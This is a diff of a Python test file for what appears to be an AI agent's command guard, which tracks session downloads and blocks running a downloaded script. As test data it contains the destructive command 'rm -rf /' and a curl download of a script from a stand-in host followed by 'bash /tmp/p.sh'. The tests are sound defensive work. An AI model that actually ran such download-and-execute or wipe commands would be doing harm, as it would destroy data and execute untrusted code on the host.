@@ -128,3 +128,14 @@ async def test_earlier_statements_that_judge_differently_alone_never_block_a_lat
     session_downloads._store.add("s1", ["rm -rf /"])  # as if a kept statement judged differently
     assert await agent.run("ls -la") == "done"
     assert (await agent.run("bash /tmp/p.sh"))["status"] == "blocked"
+
+
+async def test_a_failure_to_remember_never_fails_a_call_that_was_let_through(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    def broken(command: str) -> list[str]:
+        raise IndexError("a parser bug")
+
+    monkeypatch.setattr(session_downloads, "download_statements", broken)
+    agent = Agent()
+    assert await agent.run("curl -o /tmp/p.sh https://x.example/p.sh") == "done"
